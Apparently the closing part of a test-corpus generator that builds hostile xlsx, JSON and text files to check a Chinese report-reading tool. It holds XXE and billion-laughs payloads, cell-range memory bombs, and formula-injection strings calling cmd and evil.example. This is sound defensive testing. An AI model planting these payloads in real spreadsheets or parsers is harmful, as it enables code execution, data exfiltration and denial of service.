        lambda p: write_zip(p, [deflate(n, d) for n, d in read_members(base).items()], extra_central=200_000))

    def append_row(p: Path, row: bytes) -> None:
        """The template with one more row at the end of table 三's cell data."""
        def edit(name: str, data: bytes) -> bytes:
            return data.replace(b"</sheetData>", row + b"</sheetData>") if name == parts[SHEET_S3] else data
        rezip(base, p, edit)

    def hidden_far(p: Path, cell: bytes) -> None:
        append_row(p, b'<row r="1048576">' + cell + b"</row>")

    add(Case("far-cell.xlsx", UNREADABLE, ("范围过大",), "one value at XFD1048576: calamine would lay out 17e9 cells",
             tags=frozenset({"bomb"})),
        lambda p: hidden_far(p, b'<c r="XFD1048576"><v>1</v></c>'))
    add(Case("far-cell-implicit.xlsx", UNREADABLE, ("范围过大",), "a cell without r after ZZ400000",
             tags=frozenset({"bomb"})),
        lambda p: append_row(p, b'<row r="400000"><c r="ZZ400000"/><c><v>1</v></c></row>'))
    add(Case("far-cell-gt-attribute.xlsx", UNREADABLE, ("范围过大",),
             "a far cell whose attribute value holds '>', which ends the tag early for a pattern",
             tags=frozenset({"bomb"})),
        lambda p: hidden_far(p, b'<c r="XFD1048576" x="a>b"><v>1</v></c>'))
    add(Case("far-cell-r-not-first.xlsx", UNREADABLE, ("范围过大",), "a far cell whose address is not its first attribute",
             tags=frozenset({"bomb"})),
        lambda p: hidden_far(p, b'<c s="0" r="XFD1048576"><v>1</v></c>'))
    add(Case("far-cell-second-address.xlsx", UNREADABLE, ("损坏",),
             "a cell with a near address and a second, far one (calamine takes the last)", tags=frozenset({"bomb"})),
        lambda p: append_row(p, b'<row r="40"><c r="A40" r="XFD1048576"><v>1</v></c></row>'))
    add(Case("far-cell-prefixed.xlsx", UNREADABLE, ("范围过大",),
             "a far cell written with a namespace prefix (<x:c>), which calamine reads as a cell",
             tags=frozenset({"bomb"})),
        lambda p: hidden_far(p, b'<x:c xmlns:x="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
                                b'r="XFD1048576"><x:v>1</x:v></x:c>'))

    def sheet_read_elsewhere(p: Path) -> None:
        """Table 三 read from styles.xml by a parser that skips comments, from its own part by one that does not."""
        far = b'<sheetData><row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>'

        def edit(name: str, data: bytes) -> bytes:
            if name == "xl/workbook.xml":
                tag = re.search(rb'<sheet [^>]*name="' + SHEET_S3.encode() + rb'"[^>]*/>', data)
                assert tag is not None
                elsewhere = re.sub(rb'r:id="[^"]*"', b'r:id="rIdElsewhere"', tag.group())
                return data.replace(tag.group(), elsewhere + b"<!-- " + tag.group() + b" -->")
            if name == "xl/_rels/workbook.xml.rels":
                return data.replace(b"</Relationships>", b'<Relationship Id="rIdElsewhere" Target="styles.xml" '
                                    b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
                                    b'worksheet"/></Relationships>')
            if name == "xl/styles.xml":
                return data.replace(b"</styleSheet>", far + b"</styleSheet>")
            return data
        rezip(base, p, edit)

    add(Case("far-cell-in-styles.xlsx", UNREADABLE, ("styles.xml",),
             "table 三 mapped to styles.xml holding a far cell, hidden from a pattern reader behind a comment",
             tags=frozenset({"bomb"})), sheet_read_elsewhere)

    def shared_strings(p: Path, sst: bytes, *, doctype: str | None = None) -> None:
        """Move the agency name into a shared-string table (Excel's usual layout)."""
        _, sheet, cell = "cover_agency_name", SHEET_COVER, FORM.by_id["cover_agency_name"].cell
        if doctype is not None:
            sst = with_doctype(sst, doctype)

        def edit(name: str, data: bytes) -> bytes:
            if name == parts[sheet]:
                return set_cell_xml(data, cell, b"<v>0</v>", b' t="s"')
            if name == "xl/_rels/workbook.xml.rels":
                return data.replace(b"</Relationships>",
                                    b'<Relationship Id="rIdSst" Type="http://schemas.openxmlformats.org/'
                                    b'officeDocument/2006/relationships/sharedStrings" Target="sharedStrings.xml"/>'
                                    b"</Relationships>")
            if name == "[Content_Types].xml":
                return data.replace(b"</Types>",
                                    b'<Override PartName="/xl/sharedStrings.xml" ContentType="application/'
                                    b'vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>')
            return data
        rezip(base, p, edit, add={"xl/sharedStrings.xml": sst})

    sst_body = b'<?xml version="1.0" encoding="UTF-8"?><sst xmlns="' + _NS.encode() + \
        b'" count="1" uniqueCount="1"><si><t>&xxe;</t></si></sst>'
    add(Case("sst-count.xlsx", UNREADABLE, ("文字条目",), "sharedStrings declaring 4e9 entries (calamine preallocates)",
             tags=frozenset({"bomb"})),
        lambda p: shared_strings(p, sst_body.replace(b"&xxe;", b"x").replace(b'uniqueCount="1"',
                                                                              b'uniqueCount="4000000000"')))
    add(Case("shared-strings-ok.xlsx", frozenset({0}), (), "control: shared strings without tricks read fine"),
        lambda p: shared_strings(p, sst_body.replace(b"&xxe;", seed_report().values["cover_agency_name"].encode())))

    # -- XML entities: XXE and billion laughs in every kind of part -----------------
    xxe_targets = {
        "sheet": parts[SHEET_S3],
        "cover-sheet": parts[SHEET_COVER],
        "meta-sheet": parts[SHEET_META],
        "workbook": "xl/workbook.xml",
        "workbook-rels": "xl/_rels/workbook.xml.rels",
        "styles": "xl/styles.xml",
        "core-props": "docProps/core.xml",
        "app-props": "docProps/app.xml",
        "custom-props": "docProps/custom.xml",
        "content-types": "[Content_Types].xml",
        "package-rels": "_rels/.rels",
    }
    members = read_members(base)
    xxe_targets = {k: v for k, v in xxe_targets.items() if v in members}

    def entity_part(p: Path, part: str, doctype: str, entity: str, *, encoding: str = "utf-8") -> None:
        def edit(name: str, data: bytes) -> bytes:
            if name == part:
                return with_doctype(inject_entity_text(data, entity), doctype, encoding=encoding)
            return data
        rezip(base, p, edit)

    for label, part in xxe_targets.items():
        add(Case(f"xxe-{label}.xlsx", UNREADABLE, ("DTD",), f"external entity in {part}", marker=True,
                 tags=frozenset({"entity"})),
            lambda p, part=part: entity_part(p, part, xxe_doctype(marker_file), "xxe"))
        add(Case(f"laughs-{label}.xlsx", UNREADABLE, ("DTD",), f"billion laughs in {part}",
                 tags=frozenset({"entity"})),
            lambda p, part=part: entity_part(p, part, BILLION_LAUGHS, "lol9"))
    add(Case("xxe-sheet-utf16.xlsx", UNREADABLE, ("DTD",), "external entity in a UTF-16 sheet part", marker=True,
             tags=frozenset({"entity"})),
        lambda p: entity_part(p, parts[SHEET_S3], xxe_doctype(marker_file), "xxe", encoding="utf-16"))
    add(Case("xxe-parameter.xlsx", UNREADABLE, ("DTD",), "parameter entity loading an external DTD", marker=True,
             tags=frozenset({"entity"})),
        lambda p: entity_part(p, parts[SHEET_COVER],
                              f'<!ENTITY % ext SYSTEM "{(out / "_marker.dtd").as_uri()}"> %ext;', "ext"))
    add(Case("xxe-shared-strings.xlsx", UNREADABLE, ("DTD",), "external entity in sharedStrings", marker=True,
             tags=frozenset({"entity"})),
        lambda p: shared_strings(p, sst_body, doctype=xxe_doctype(marker_file)))
    add(Case("laughs-shared-strings.xlsx", UNREADABLE, ("DTD",), "billion laughs in sharedStrings",
             tags=frozenset({"entity"})),
        lambda p: shared_strings(p, sst_body.replace(b"&xxe;", b"&lol9;"), doctype=BILLION_LAUGHS))

    # -- other containers ----------------------------------------------------------
    def encrypted(p: Path) -> None:
        from msoffcrypto.format.ooxml import OOXMLFile

        with open(base, "rb") as src, open(p, "wb") as dst:
            OOXMLFile(src).encrypt("secret-123", dst)

    add(Case("encrypted.xlsx", UNREADABLE, ("密码", "清空密码", "重新提交"), "open password (ECMA-376 agile encryption)"),
        encrypted)
    add(Case("legacy.xls", UNREADABLE, ("旧版",), "an Excel 97-2003 compound file"),
        lambda p: p.write_bytes(legacy_xls()))
    add(Case("legacy-renamed.xlsx", UNREADABLE, ("旧版", ".xls"), "an Excel 97-2003 file renamed .xlsx"),
        lambda p: p.write_bytes(legacy_xls()))

    def unrelated(p: Path) -> None:
        wb = openpyxl.Workbook()
        wb.active["A1"] = "随便一个表格"
        wb.save(p)

    add(Case("unrelated.xlsx", UNREADABLE, ("不是本工具生成",), "an openpyxl blank workbook"), unrelated)

    # -- our template, altered -----------------------------------------------------
    def with_openpyxl(p: Path, change: Callable[[openpyxl.Workbook], None]) -> None:
        wb = openpyxl.load_workbook(base)
        change(wb)
        wb.save(p)

    def set_meta(key: str, value: object) -> Callable[[openpyxl.Workbook], None]:
        def change(wb: openpyxl.Workbook) -> None:
            ws = wb[SHEET_META]
            for row in ws.iter_rows():
                if row[0].value == key:
                    row[1].value = value
                    return
            raise AssertionError(f"{key} not in _meta")
        return change

    add(Case("other-version.xlsx", UNREADABLE, ("第 99 版",), "template_version 99"),
        lambda p: with_openpyxl(p, set_meta("template_version", 99)))
    add(Case("broken-version.xlsx", UNREADABLE, ("版本号",), "template_version not a number"),
        lambda p: with_openpyxl(p, set_meta("template_version", "v-one")))
    add(Case("other-template-id.xlsx", UNREADABLE, ("不是本工具生成",), "template_id changed"),
        lambda p: with_openpyxl(p, set_meta("template_id", "someone-else")))

    def rename(wb: openpyxl.Workbook) -> None:
        wb[SHEET_S3].title = "依申请公开（改）"

    def delete(wb: openpyxl.Workbook) -> None:
        del wb[SHEET_S3]

    def reorder(wb: openpyxl.Workbook) -> None:
        wb._sheets.reverse()  # noqa: SLF001 — openpyxl has no public reorder of all sheets
        wb.active = 0

    add(Case("sheet-renamed.xlsx", frozenset({1}), ("sheet.renamed", "依申请公开（改）", "tamper.formula"),
             "a data sheet renamed by a program that left the formulas naming the old sheet (#REF! when opened)"),
        lambda p: with_openpyxl(p, rename))
    add(Case("sheet-deleted.xlsx", UNREADABLE, ("依申请公开", "缺失"), "a data sheet deleted"),
        lambda p: with_openpyxl(p, delete))
    add(Case("sheet-reordered.xlsx", frozenset({0}), (), "sheets in reverse order: cells are found by sheet name"),
        lambda p: with_openpyxl(p, reorder))

    def insert_rows(wb: openpyxl.Workbook) -> None:
        wb[SHEET_S3].insert_rows(8, 2)

    add(Case("rows-inserted.xlsx", frozenset({1}), ("tamper.formula",), "two rows inserted in 依申请公开"),
        lambda p: with_openpyxl(p, insert_rows))

    def merges(wb: openpyxl.Workbook) -> None:
        for name in (SHEET_S3, "总体情况"):
            ws = wb[name]
            for rng in list(ws.merged_cells.ranges):
                ws.unmerge_cells(str(rng))
        wb["总体情况"].merge_cells("A20:D22")

    add(Case("merges-changed.xlsx", frozenset({0}), (), "merged ranges removed and added: values are read by cell"),
        lambda p: with_openpyxl(p, merges))

    total = FORM.totals[0]

    def constants(wb: openpyxl.Workbook) -> None:
        for t in FORM.totals[:3]:
            wb[t.sheet][t.cell] = 7

    add(Case("formulas-replaced.xlsx", frozenset({1}), ("tamper.formula", total.cell),
             "total formulas replaced by constants"), lambda p: with_openpyxl(p, constants))

    # -- hostile values in count cells (raw XML: what other programs can write) ----
    cid, csheet, ccell = first_field(Kind.COUNT, SHEET_S3)

    def count_value(p: Path, inner: bytes, attrs: bytes = b"") -> None:
        def edit(name: str, data: bytes) -> bytes:
            return set_cell_xml(data, ccell, inner, attrs) if name == parts[csheet] else data
        rezip(base, p, edit)

    count_cases = {
        "count-text": ("<is><t>十二件</t></is>".encode(), b' t="inlineStr"'),
        "count-date": (b"<v>2024-03-05T00:00:00</v>", b' t="d"'),
        "count-1e308": (b"<v>1E+308</v>", b""),
        "count-1e20": (b"<v>100000000000000000000</v>", b""),
        "count-nan": (b"<v>NaN</v>", b""),
        "count-inf": (b"<v>INF</v>", b""),
        "count-negative-zero": (b"<v>-0</v>", b""),
        "count-error": (b"<v>#DIV/0!</v>", b' t="e"'),
        "count-bool": (b"<v>1</v>", b' t="b"'),
        "count-huge-text": (b"<is><t>" + b"9" * 5000 + b"</t></is>", b' t="inlineStr"'),
    }
    for label, (inner, attrs) in count_cases.items():
        add(Case(f"{label}.xlsx", frozenset({0, 1, 2}), (), f"{ccell} of {csheet} = {inner[:40]!r}",
                 tags=frozenset({"count"})),
            lambda p, inner=inner, attrs=attrs: count_value(p, inner, attrs))

    # -- hostile text: formula injection, long narratives, non-BMP -----------------
    def texts(values: dict[str, object]) -> Callable[[Path], None]:
        def make(p: Path) -> None:
            report = seed_report()
            filled = fill_values(report)
            filled.update(values)
            build_template(p, values=filled)
        return make

    injections = {
        "cover_agency_name": '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
        "cover_preparer": "+cmd|' /C calc'!A0",
        "cover_parent": "@SUM(1+1)*cmd|' /C calc'!A0",
        "n1_proactive": "-1+1",
        "n1_on_request": "=1+1\t\r\n（以下为正文）",
        "n5_problems": "＝HYPERLINK(\"http://evil.example\")",
    }
    add(Case("formula-injection.xlsx", frozenset({0, 1}), (), "formula-like text in names and narratives",
             tags=frozenset({"text"})), texts(injections))
    add(Case("long-narratives.xlsx", frozenset({0, 1}), (), "32,767-character narratives (Excel's cell limit)",
             tags=frozenset({"text"})),
        texts({f.id: ("公开" * 16384)[:32767] for f in FORM.inputs if f.kind == Kind.LONGTEXT}))
    add(Case("non-bmp.xlsx", frozenset({0, 1}), (), "characters outside the BMP in names and narratives",
             tags=frozenset({"text"})),
        texts({"cover_agency_name": "𠀀𪚥街道办事处😀", "n1_proactive": "𝔘𝔫𝔦𝔠𝔬𝔡𝔢 😀 𠮷野家 " * 50}))

    # -- numbers that once ended a whole batch (issue 18) ----------------------------
    row = [FORM.by_id[s3_id("new", c)].cell for c in ("natural", "commercial")]

    def counts(p: Path, value: bytes) -> None:
        def edit(name: str, data: bytes) -> bytes:
            if name == parts[SHEET_S3]:
                for cell in row:
                    data = set_cell_xml(data, cell, b"<v>" + value + b"</v>")
            return data
        rezip(base, p, edit)

    add(Case("count-1e308-twice.xlsx", frozenset({1}), ("input.too_large",),
             f"{' and '.join(row)} of {SHEET_S3} = 1E+308: their total would overflow to infinity",
             tags=frozenset({"count"})), lambda p: counts(p, b"1E+308"))
    add(Case("count-1e15-twice.xlsx", frozenset({1}), ("input.too_large",),
             "two counts of 1e15: below overflow, but never a plausible count, so never summed",
             tags=frozenset({"count"})), lambda p: counts(p, b"1000000000000000"))

    # -- native code that aborts: only that file is lost ---------------------------------
    add(Case("far-cell-foreign-namespace.xlsx", UNREADABLE, (),
             "a far cell in a foreign namespace: calamine reads it as a cell and aborts allocating 512 GB "
             "(read in a child process: the command survives)", tags=frozenset({"bomb", "abort"})),
        lambda p: append_row(p, b'<row r="1048576"><y:c xmlns:y="urn:x-foreign" r="XFD1048576"><y:v>1</y:v>'
                                b"</y:c></row>"))
    add(Case("far-row-foreign-namespace.xlsx", UNREADABLE, (),
             "a far row and cell in a foreign namespace", tags=frozenset({"bomb", "abort"})),
        lambda p: append_row(p, b'<y:row xmlns:y="urn:x-foreign" r="1048576"><y:c r="XFD1048576"><y:v>1</y:v>'
                                b"</y:c></y:row>"))

    # -- not a regular file: never opened ----------------------------------------------
    def fifo(p: Path) -> None:
        p.unlink(missing_ok=True)
        os.mkfifo(p)

    if hasattr(os, "mkfifo"):
        add(Case("fifo.xlsx", UNREADABLE, ("命名管道", "不是普通文件"), "a FIFO named .xlsx (reading it would block)",
                 tags=frozenset({"special"})), fifo)
        add(Case("fifo.json", UNREADABLE, ("命名管道",), "a FIFO named .json", tags=frozenset({"special"})), fifo)

    # -- report JSON that breaks json.loads' users ---------------------------------------
    good_json = json.dumps(seed_report().to_json(), ensure_ascii=False, indent=2)
    for label, (reason, note, data) in json_attacks(good_json).items():
        add(Case(f"json-{label}.json", UNREADABLE, reason, note, tags=frozenset({"json"})),
            lambda p, data=data: p.write_bytes(data))
    add(Case("json-ok.json", frozenset({0}), (), "control: the same report JSON, untouched", tags=frozenset({"json"})),
        lambda p: p.write_text(good_json, encoding="utf-8"))

    # -- published reports with numbers no table holds --------------------------------------
    published = to_markdown(build_document(seed_report()))
    first = re.search(r"\| (\d+) \|", published)
    assert first is not None

    def printed(text: str) -> Callable[[Path], object]:
        assert first is not None
        return lambda p: p.write_text(published[:first.start(1)] + text + published[first.end(1):], encoding="utf-8")

    add(Case("published-digits.txt", frozenset({1, 2}), (), "a 5,000-digit number in a table of a published report",
             tags=frozenset({"published"})), printed("9" * 5000))
    add(Case("published-400-digits.txt", frozenset({1, 2}), (), "a 400-digit number (past float) in a table",
             tags=frozenset({"published"})), printed("1" + "0" * 400))
    for case, make in published_cases(out, marker_file):  # bombs, caps and hostile PDFs (issue 18 item 5)
        add(case, make)

    # -- what a spreadsheet shows is what is read ------------------------------------------
    cases.update(make_differential(out))

    # -- file names ------------------------------------------------------------------
    for label, name in {"spaces": "西霞院 街道 2024 年报.xlsx", "emoji": "报表😀 final (1).xlsx"}.items():
        add(Case(name, frozenset({0}), (), f"file name with {label}", tags=frozenset({"name"})),
            lambda p: p.write_bytes(base.read_bytes()))
    add(Case("损坏的 报表😀.xlsx", UNREADABLE, ("损坏",), "unreadable file with Chinese, spaces and emoji in its name",
             tags=frozenset({"name"})),
        lambda p: p.write_bytes(base.read_bytes()[:3000]))
    return cases


def main(argv: list[str]) -> int:
    if len(argv) != 1:
        print("usage: make_corpus.py OUTDIR", file=sys.stderr)
        return 2
    cases = make_corpus(Path(argv[0]))
    for case in cases.values():
        print(f"{case.name}\texit {sorted(case.exit)}\t{case.note}")
    return 0


if __name__ == "__main__":
    raise SystemExit(main(sys.argv[1:]))
